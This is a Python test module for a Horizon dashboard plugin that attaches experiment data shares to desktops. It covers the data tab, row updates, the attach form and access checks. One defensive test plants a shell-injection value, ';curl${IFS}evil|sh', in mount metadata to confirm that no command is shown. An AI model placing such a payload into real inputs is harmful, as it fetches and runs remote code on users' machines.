"""Views of experiment data: the Experiment data tab and the ajax row update (GETs:
they only read, whatever the state), and the attach form (hand-made POSTs; the POST
records the wanted state and takes one step)."""

from unittest import mock

from django.core.cache import cache
from django.urls import reverse
from openstack_dashboard.test import helpers as test

from heps_desktop_dashboard import api
from heps_desktop_dashboard.dashboards.project.desktops.experiments import tabs as experiment_tabs
from heps_desktop_dashboard.dashboards.project.desktops.experiments import texts
from test_data import contexts
from test_data import experiments_data as edata

INDEX_URL = reverse("horizon:project:desktops:index")
EXP = edata.EXPERIMENT
TAB = "desktop_details__experiment_data"


class CloudTestCase(test.TestCase):
    """Horizon's logged-in test user, in front of an in-memory nova + Manila."""

    mode = "access-rule"

    def setUp(self):
        super().setUp()
        cache.clear()
        settings = self.settings(HEPS_DESKTOPS={"share_mount_mode": self.mode})
        settings.enable()
        self.addCleanup(settings.disable)
        self.cloud = edata.FakeCloud()
        project = self.tenant.id
        # The service layer called directly (outside a view): the same user's context,
        # and the reconciler's.
        self.user_ctx = contexts.user_context(project_id=project, user_id=self.user.id)
        self.operator = contexts.operator_context()
        self.cloud.add_share(edata.share_info("raw", project=project))
        self.cloud.add_share(edata.share_info("results", project=project, snapshots=True))
        self.cloud.add_share(edata.share_info("raw", share_id="bob-raw",
                                              project=edata.OTHER_PROJECT,
                                              experiment="2026-0217"))
        patches = self.cloud.patches()
        patches.__enter__()
        self.addCleanup(patches.__exit__)
        for target, name, value in (
                (api.glance, "images_by_id", {}),
                (api.manila, "snapshot_list", []),
                (api.manila, "quota_usage", {"gigabytes": {"limit": 1000, "in_use": 2}}),
                (experiment_tabs.base, "is_service_enabled", True)):
            patch = mock.patch.object(target, name, return_value=value)
            patch.start()
            self.addCleanup(patch.stop)
        self.sleep = mock.patch("time.sleep", side_effect=AssertionError("slept"))
        self.sleep.start()
        self.addCleanup(self.sleep.stop)

    def attached_server(self, **kw):
        from heps_desktop_dashboard.services import data_attach

        server = self.cloud.add_server(**kw)
        data_attach.attach(self.user_ctx, server.id, EXP)
        edata.reconcile(self.cloud, self.operator, server.id)
        self.assertEqual(self.cloud.metadata(server.id)["heps:data_state"], "attached")
        self.cloud.calls.clear()
        self.cloud.contexts.clear()
        return server

    def attaching_server(self):
        """A desktop whose experiment is wanted but not yet granted (launched with it)."""
        return edata.planned_server(self.cloud, self.user_ctx, self.mode)

    def assertNothingChanged(self):
        self.assertEqual(self.cloud.mutations(), [])


class ExperimentTabTests(CloudTestCase):
    def _tab(self, server):
        url = reverse("horizon:project:desktops:detail", args=[server.id])
        return self.client.get(url, {"tab": TAB}, HTTP_X_REQUESTED_WITH="XMLHttpRequest")

    def test_tab_lists_each_share_with_mode_level_path_and_state(self):
        server = self.attached_server()
        res = self._tab(server)
        self.assertEqual(res.status_code, 200)
        self.assertTemplateUsed(res, "heps_desktops/desktops/_experiment_data.html")
        for text in ("exp-2026-0142-raw", "exp-2026-0142-results", "read-only", "read-write",
                     "/data/raw", "/data/results", "NFS (Manila access rule)", "Attached",
                     "active", "Snapshot Results", "2 of 1000 GiB",
                     "sudo mount -t nfs -o ro 10.0.0.10:/path/to/fake/share/"):
            self.assertContains(res, text)
        self.assertNotContains(res, "data-heps-experiment-poll")
        self.assertNothingChanged()

    def test_tab_of_a_desktop_without_data_offers_attach(self):
        server = self.cloud.add_server(metadata={"heps:experiment": "2026-0999"})
        res = self._tab(server)
        self.assertContains(res, "No experiment data attached")
        self.assertContains(res, reverse("horizon:project:desktops:attach_experiment",
                                         args=[server.id]))

    def test_tab_polls_while_attaching_and_takes_no_step(self):
        server = self.attaching_server()
        for _ in range(3):
            res = self._tab(server)
            self.assertContains(res, "data-heps-experiment-poll")
            self.assertContains(res, "Attaching experiment data")
        self.assertNothingChanged()
        self.assertEqual(self.cloud.all_rules(), [])     # the reconciler grants, not a GET
        self.assertEqual({ctx for _name, ctx in self.cloud.contexts}, {"user"})

    def test_tab_of_a_desktop_being_detached_takes_no_step(self):
        server = self.attached_server()
        self.cloud.servers[server.id]["metadata"]["heps:data_state"] = "detaching"
        res = self._tab(server)
        self.assertContains(res, "Detaching experiment data")
        self.assertNothingChanged()
        self.assertEqual(len(self.cloud.live_rules()), 2)

    def test_names_and_metadata_are_escaped(self):
        self.cloud.shares[edata.RAW_ID]["name"] = "<b>raw</b>"
        server = self.attached_server()
        res = self._tab(server)
        self.assertContains(res, "&lt;b&gt;raw&lt;/b&gt;")
        self.assertNotContains(res, "<b>raw</b>")

    def test_a_mount_edited_into_a_shell_snippet_shows_no_command(self):
        server = self.attached_server()
        metadata = self.cloud.servers[server.id]["metadata"]
        metadata["heps:mount:raw"] = metadata["heps:mount:raw"].replace(
            "/data/raw", "/data/raw;curl${IFS}evil|sh")
        res = self._tab(server)
        self.assertNotContains(res, "sudo mkdir -p /data/raw;")
        self.assertContains(res, "sudo mount -t nfs -o rw")     # the results share's

    def test_manila_down_is_a_warning_not_an_error_page(self):
        server = self.attached_server()
        self.cloud.fail["experiment_shares"] = api.manila.ShareServiceUnavailable("down")
        self.cloud.fail["desktop_rules"] = api.manila.ShareServiceUnavailable("down")
        res = self._tab(server)
        self.assertEqual(res.status_code, 200)
        self.assertContains(res, "Manila")
        self.assertNothingChanged()

    def test_another_projects_desktop_is_not_shown(self):
        server = self.cloud.add_server(project=edata.OTHER_PROJECT)
        url = reverse("horizon:project:desktops:detail", args=[server.id])
        res = self.client.get(url, {"tab": TAB})
        self.assertRedirectsNoFollow(res, INDEX_URL)
        self.assertNothingChanged()


class VirtiofsTabTests(CloudTestCase):
    mode = "virtiofs"

    def test_tab_shows_the_attachments_and_takes_no_step(self):
        server = self.attached_server()
        url = reverse("horizon:project:desktops:detail", args=[server.id])
        res = self.client.get(url, {"tab": TAB}, HTTP_X_REQUESTED_WITH="XMLHttpRequest")
        for text in ("virtiofs (nova share attachment)", "heps-raw", "heps-results",
                     "sudo mount -t virtiofs -o ro heps-raw /data/raw"):
            self.assertContains(res, text)
        self.assertNothingChanged()


class RowUpdateTests(CloudTestCase):
    def _row(self, server):
        return self.client.get(INDEX_URL, {"action": "row_update", "table": "desktops",
                                           "obj_id": server.id},
                               HTTP_X_REQUESTED_WITH="XMLHttpRequest")

    def test_row_update_shows_an_attach_under_way_and_only_reads(self):
        server = self.attaching_server()
        res = self._row(server)
        self.assertContains(res, "Attaching experiment data")
        self.assertContains(res, "ajax-update warning")  # Horizon keeps polling the row
        self.assertNothingChanged()
        self.assertEqual(self.cloud.all_rules(), [])
        self.assertEqual(self.cloud.calls, ["desktop_get"])

    def test_row_update_of_a_stuck_desktop_stops_polling(self):
        server = self.attaching_server()
        self.cloud.set_status(server.id, "ERROR")
        res = self._row(server)
        self.assertNotContains(res, "Attaching experiment data")
        self.assertNothingChanged()


class AttachFormTests(CloudTestCase):
    def _url(self, server):
        return reverse("horizon:project:desktops:attach_experiment", args=[server.id])

    def _post(self, server, **overrides):
        form = {"experiment": EXP, "raw_access": "ro", "results_access": "rw", **overrides}
        return self.client.post(self._url(server), form)

    def test_form_offers_only_the_projects_experiments(self):
        server = self.cloud.add_server()
        res = self.client.get(self._url(server))
        self.assertContains(res, "exp-2026-0142-raw (1 GiB, NFS, available)")
        self.assertNotContains(res, "2026-0217")
        self.assertNotContains(res, "confirm_restart")   # access-rule: no restart
        self.assertNothingChanged()

    def test_attach_records_the_plan_takes_one_step_and_redirects_to_the_tab(self):
        server = self.cloud.add_server()
        res = self._post(server)
        self.assertNoFormErrors(res)
        self.assertRedirectsNoFollow(
            res, reverse("horizon:project:desktops:detail", args=[server.id]) + f"?tab={TAB}")
        self.assertEqual(self.cloud.metadata(server.id)["heps:data_state"], "attaching")
        self.assertEqual({r["access_level"] for r in self.cloud.all_rules()}, {"ro", "rw"})
        self.assertEqual({r["state"] for r in self.cloud.all_rules()}, {"queued_to_apply"})
        self.assertEqual({ctx for _name, ctx in self.cloud.contexts}, {"user"})
        edata.reconcile(self.cloud, self.operator, server.id)      # the rest
        self.assertEqual(self.cloud.metadata(server.id)["heps:data_state"], "attached")

    def test_a_second_attach_while_one_runs_is_refused(self):
        server = self.cloud.add_server()
        self._post(server)
        before = list(self.cloud.mutations())
        res = self._post(server)
        self.assertEqual(self.cloud.mutations(), before)
        self.assertEqual(len(self.cloud.all_rules()), 2)
        self.assertIn("busy", " ".join(str(m) for m in res.wsgi_request._messages))

    def test_hand_made_post_asking_raw_read_write_is_refused(self):
        server = self.cloud.add_server()
        res = self._post(server, raw_access="rw")
        self.assertContains(res, "Raw experiment data can only be mounted read-only.")
        self.assertNothingChanged()

    def test_hand_made_post_with_another_projects_experiment_is_refused(self):
        server = self.cloud.add_server()
        res = self._post(server, experiment="2026-0217")
        self.assertFormErrors(res, 1)
        self.assertNothingChanged()

    def test_a_post_for_another_projects_desktop_changes_nothing(self):
        server = self.cloud.add_server(project=edata.OTHER_PROJECT)
        res = self._post(server)
        self.assertRedirectsNoFollow(res, INDEX_URL)
        self.assertNothingChanged()

    def test_share_in_error_is_a_form_error(self):
        self.cloud.shares[edata.RESULTS_ID]["status"] = "error"
        server = self.cloud.add_server()
        res = self._post(server)
        self.assertContains(res, "is error, not available")
        self.assertNothingChanged()

    def test_manila_down_is_a_form_error_and_nothing_is_changed(self):
        server = self.cloud.add_server()
        self.cloud.fail["experiment_shares"] = api.manila.ShareServiceUnavailable("down")
        res = self._post(server)
        self.assertEqual(res.status_code, 200)
        self.assertIn("Manila", " ".join(str(m) for m in res.wsgi_request._messages))
        self.assertNothingChanged()


class VirtiofsAttachFormTests(CloudTestCase):
    mode = "virtiofs"

    def test_running_desktop_needs_the_restart_confirmed(self):
        server = self.cloud.add_server()
        url = reverse("horizon:project:desktops:attach_experiment", args=[server.id])
        form = {"experiment": EXP, "raw_access": "ro", "results_access": "rw"}
        res = self.client.post(url, form)
        self.assertContains(res, "Attaching needs a restart of the desktop")
        self.assertNothingChanged()
        res = self.client.post(url, dict(form, confirm_restart="on"))
        self.assertNoFormErrors(res)
        self.assertEqual(self.cloud.calls.count("server_stop"), 1)
        self.assertEqual(self.cloud.attached[server.id], {})       # one step: the stop
        self.assertEqual(self.cloud.metadata(server.id)["heps:data_state"],
                         "attaching-restart")

    def test_a_stopped_desktop_needs_no_confirmation(self):
        server = self.cloud.add_server(status="SHUTOFF")
        url = reverse("horizon:project:desktops:attach_experiment", args=[server.id])
        res = self.client.post(url, {"experiment": EXP, "raw_access": "ro",
                                     "results_access": "rw"})
        self.assertNoFormErrors(res)
        self.assertEqual(set(self.cloud.attached[server.id]),
                         {edata.RAW_ID, edata.RESULTS_ID})


class ExperimentChoicesTests(CloudTestCase):
    def setUp(self):
        super().setUp()
        patch = mock.patch.object(api.context, "for_request", return_value=self.user_ctx)
        patch.start()
        self.addCleanup(patch.stop)

    def test_choices_show_size_protocol_status_and_none(self):
        choices = texts.experiment_choices(self.request)
        self.assertEqual([c[0] for c in choices], ["", EXP])
        label = str(choices[1][1])
        self.assertIn("Raw data: exp-2026-0142-raw (1 GiB, NFS, available)", label)
        self.assertIn("Results: exp-2026-0142-results", label)
        self.assertEqual([c[0] for c in texts.experiment_choices(self.request,
                                                                 include_none=False)],
                         [EXP])
        self.assertEqual(self.cloud.contexts, [("experiment_shares", "user")] * 2)

    def test_choices_when_manila_is_down_leave_only_none_and_say_so(self):
        self.cloud.fail["experiment_shares"] = api.manila.ShareServiceUnavailable("down")
        with mock.patch.object(texts.horizon_exceptions, "handle") as handle:
            self.assertEqual([c[0] for c in texts.experiment_choices(self.request)], [""])
        self.assertIn("Manila", str(handle.call_args.args[1]))
